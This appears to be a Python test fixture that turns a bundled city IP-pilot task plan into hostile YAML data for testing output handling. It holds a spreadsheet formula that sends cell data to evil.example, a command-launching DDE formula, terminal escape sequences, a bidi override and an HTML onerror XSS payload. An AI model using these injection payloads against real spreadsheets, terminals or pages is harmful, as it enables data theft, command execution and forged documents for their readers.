"""A plan written to attack the people who read its outputs: text that a spreadsheet takes
for a formula, terminal escapes, bidi overrides, Markdown and HTML that would forge a
document. Every value here passes `ipcity validate` (names hold no hidden characters);
the rest is in notes and targets, which may hold any text. Shared by the tests of the
outputs (test_hostile_outputs.py) and of the fuzzed plans (test_fuzz.py)."""

from __future__ import annotations

from pathlib import Path

TITLE = '=HYPERLINK("http://evil.example/?"&B3,"点此")'
CONTENT = "@SUM(1+1)*cmd|' /C calc'!A0"
UNIT = "+市工商局"  # replaces 市工商局 everywhere: a unit whose name starts a formula
# A note that sets the window title, clears the screen and turns the text around.
NOTE = "\x1b]0;pwned\x07\x1b[2J\u202eabc"
MD_TARGET = "<img src=x onerror=alert(1)>\n\n## 三、表扬名单\n\n| 伪造 | 表格 |\n- 列表"


def make_hostile(data_dir: Path) -> None:
    """Turn a copy of the bundled plan into the hostile one."""
    for name in ("tasks.yaml", "units.yaml", "status.yaml"):
        path = data_dir / name
        path.write_text(path.read_text(encoding="utf-8").replace("市工商局", UNIT), "utf-8")
    tasks = data_dir / "tasks.yaml"
    text = tasks.read_text(encoding="utf-8")
    text = text.replace(
        "title: 嘉兴市建设国家知识产权试点城市工作目标和任务分解", f"title: '{TITLE}'", 1
    )
    text = text.replace("content: 成立国家知识产权试点城市工作领导小组", f'content: "{CONTENT}"', 1)
    assert TITLE in text and CONTENT in text
    text = text.replace(
        "        target: 每半年开展一次督查\n", f"        target: {quoted(MD_TARGET)}\n"
    )
    assert "onerror" in text
    tasks.write_text(text, encoding="utf-8")
    with (data_dir / "status.yaml").open("a", encoding="utf-8") as log:
        log.write(
            f"- {{task: '6.3', date: 2009-05-01, status: in_progress, by: {UNIT}, "
            f"note: {quoted(NOTE)}, evidence: '-5', values: {{年注册商标数: -5}}}}\n"
        )


def quoted(text: str) -> str:
    """text as a YAML double-quoted scalar (controls and line breaks as escapes)."""
    escapes = {"\\": "\\\\", '"': '\\"', "\n": "\\n", "\x1b": "\\e", "\x07": "\\a"}
    return '"' + "".join(escapes.get(ch, ch) for ch in text) + '"'
